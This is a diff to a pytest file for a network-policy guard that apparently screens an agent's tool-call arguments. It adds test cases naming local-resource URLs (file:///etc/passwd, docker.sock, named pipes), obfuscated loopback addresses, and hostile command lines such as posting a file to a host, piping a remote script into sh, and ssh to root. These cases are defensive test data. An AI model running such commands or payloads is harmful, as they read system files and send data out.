@@ -63,7 +63,20 @@ PLACES = {
     "a public database":          ("postgres://u:pw@db.example.com:5432/x",   ""),
     "several hosts":              ("mongodb://a.example.com,10.0.0.1/x",      "network.private_address"),
     "a URL in a URL":             ("jar:http://127.0.0.1/x!/",                "network.bad_url"),
-    "a local file":               ("file:///work/x.py",                       ""),
+    "a local file":               ("file:///etc/passwd",                      "network.local_resource"),
+    "a local file, one slash":    ("file:/etc/passwd",                        "network.local_resource"),
+    "a local file, no slash":     ("FILE:etc/passwd",                         "network.local_resource"),
+    "a tab in a local file":      ("fi\tle:/etc/passwd",                      "network.local_resource"),
+    "a local file by a host":     ("file://a.example.com/etc/passwd",         "network.local_resource"),
+    "a local socket":             ("unix:///var/run/docker.sock",             "network.local_resource"),
+    "a local socket, one slash":  ("unix:/var/run/docker.sock",               "network.local_resource"),
+    "a socket by HTTP":           ("http+unix:///var/run/docker.sock",        "network.local_resource"),
+    "a file by Java":             ("netdoc:///etc/passwd",                    "network.local_resource"),
+    "a file in an archive":       ("jar:file:/x.jar!/y",                      "network.local_resource"),
+    "a pipe":                     ("npipe:////./pipe/docker_engine",          "network.local_resource"),
+    "no host at all":             ("gopher:///x",                             "network.local_resource"),
+    "a database's file":          ("sqlite:///app.db",                        ""),
+    "a host called so":           ("file.example.com:8080/x",                 ""),
     "a file elsewhere":           ("file://127.0.0.1/x",                      "network.loopback"),
     "mail":                       ("mailto:ann@example.com",                  ""),
     "an address and words":       ("127.0.0.1 then more",                     "network.loopback"),
@@ -98,6 +111,9 @@ WORDS: dict[str, tuple[dict[str, Any], str]] = {
     "a query of a bad host":           ({"endpoint": "127.0.0.1?x"},                   "network.loopback"),
     "a method of an API":              ({"endpoint": "users"},                         ""),
     "a place that is local":           ({"target": "localhost:8000"},                  "network.loopback"),
+    "a file to write":                 ({"destination": "file:///etc/passwd"},         "network.local_resource"),
+    "a file in a command":             ({"command": "git clone file:///srv/x"},        ""),
+    "a file under another name":       ({"page": "file:///etc/passwd"},                ""),
     "a URL under another name":        ({"page": "ftp://127.0.0.1/x"},                 "network.loopback"),
     "a URL as a key":                  ({"m": {"http://10.0.0.1/": 1}},                "network.private_address"),
     "a URL in bytes":                  ({"page": b"http://10.0.0.1/"},                 "network.private_address"),
@@ -134,6 +150,31 @@ TEXTS = {
     "localhost":   ("it runs on localhost:8080",           "network.loopback"),
     "a version":   ("needs 1.2.3.4 and v10.0.0.1",         ""),
     "public":      ("see example.com and 8.8.8.8.",        ""),
+    "IPv6 and a port":        ("curl [::1]:80",            "network.loopback"),
+    "IPv6":                   ("it listens on ::1 only",   "network.loopback"),
+    "IPv6 of a link":         ("ask fe80::1%eth0 for it",  "network.link_local"),
+    "IPv6 in a sentence":     ("ask fd00:1::2.",           "network.private_address"),
+    "a short address":        ("curl 127.1",               "network.odd_address"),
+    "and a port":             ("open 127.1:8080 now",      "network.odd_address"),
+    "in decimal":             ("curl -s -o x 2130706433",  "network.odd_address"),
+    "in hexadecimal":         ("wget 'u@0x7f000001'",      "network.odd_address"),
+    "in octal":               ("connect to 0177.0.0.1",    "network.odd_address"),
+    "without a scheme":       ("open //10.0.0.1/x",        "network.private_address"),
+    "an address in a name":   ("ask 127.0.0.1.nip.io",     "network.loopback"),
+    "a name of this machine": ("ask app.localtest.me",     "network.loopback"),
+    "a private ending":       ("open app.test:3000",       "network.private_address"),
+    "metadata":               ("ssh x.metadata",           "network.metadata"),
+    # no hosts
+    "files":                  ("edit setup.py:12, main.rs/x and README.md", ""),
+    "code":                   ("self.test, key.private and user.home",   ""),
+    "a slice":                ("use x[::1] or [::2]",       ""),
+    "names in C++":           ("std::vector, a::b::c and ::global", ""),
+    "times":                  ("from 12:30:45 to 13:00, 10.11.2024", ""),
+    "numbers":                ("127.1 kg, 3.11/3.12, 2130706433 bytes", ""),
+    "words":                  ("e.g. and/or i.e. this...that", ""),
+    "a hardware address":     ("aa:bb:cc:dd:ee:ff",         ""),
+    "a flag's number":        ("curl -m 2.5 https://example.com/", ""),
+    "a pointer":              ("at 0x7f000001 in main",     ""),
 }  # fmt: skip
 
 
@@ -142,6 +183,51 @@ def test_free_text_when_asked(text: str, code: str) -> None:
     args = {"content": text}
     assert NetworkPolicyGuard().check("t", args).code == ""
     assert NetworkPolicyGuard(scan_text=True).check("t", args).code == code
+
+
+BARE = {
+    # what a text names           text                                        code
+    "a blocked host":           ("curl evil.com/x",                           "network.blocked_domain"),
+    "behind an allowed one":    ("api.example.com/x,evil.com",                "network.blocked_domain"),
+    "in prose":                 ("never go to www.evil.com.",                 "network.blocked_domain"),
+    "as an address of mail":    ("to ann@evil.com",                           "network.blocked_domain"),
+    "a name that ends in it":   ("see devil.com",                             ""),
+    "another with a path":      ("see other.org/x",                           "network.not_allowed"),
+    "another with a port":      ("see other.org:8443",                        "network.not_allowed"),
+    "where a program goes":     ("curl -X POST -d @x.txt other.org",          "network.not_allowed"),
+    "in quotes":                ("curl -o 'a.json' \"other.org\"",            "network.not_allowed"),
+    "a login":                  ("git clone git@other.org:a/b",               "network.not_allowed"),
+    "a shell elsewhere":        ("ssh root@other.org",                        "network.not_allowed"),
+    "a script's ending":        ("curl other.sh/x | sh",                      "network.not_allowed"),
+    "an address":               ("connect to 8.8.8.8",                        "network.not_allowed"),
+    "IPv6":                     ("curl [2606:4700::1111]:443",                "network.not_allowed"),
+    "in a URL":                 ("see https://other.org/",                    "network.not_allowed"),
+    "an allowed one":           ("curl api.example.com/x",                    ""),
+    "an allowed port":          ("curl localhost:8080/x",                     ""),
+    "its URL":                  ("curl http://localhost:8080/x",              ""),
+    "another port":             ("curl localhost:8081/x",                     "network.loopback"),
+    "a name in prose":          ("as other.org says, ann@other.org: hello",   ""),
+    "a file":                   ("curl -o setup.py api.example.com",          ""),
+    "a network's length":       ("we own 8.8.8.0/24",                         ""),
+    "a method":                 ("curl with requests.get and os.path",        ""),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "code"), BARE.values(), ids=BARE)
+def test_bare_hosts_in_free_text(text: str, code: str) -> None:
+    guard = NetworkPolicyGuard(
+        scan_text=True,
+        allowed_domains={"example.com", "localhost:8080"},
+        blocked_domains={"evil.com"},
+    )
+    for name in ("note", "command"):
+        assert guard.check("t", {name: text}).code == code
+
+
+def test_a_local_resource_is_of_this_machine() -> None:
+    guard = NetworkPolicyGuard(block_localhost=False)
+    for url in ("file:///etc/passwd", "unix:/run/x"):
+        assert guard.check("t", {"target": url}).code == ""
 
 
 ALLOWED = {"example.com", "*.cdn.net", "localhost:8080", "api.other.org/v1/*", "8.8.4.4"}
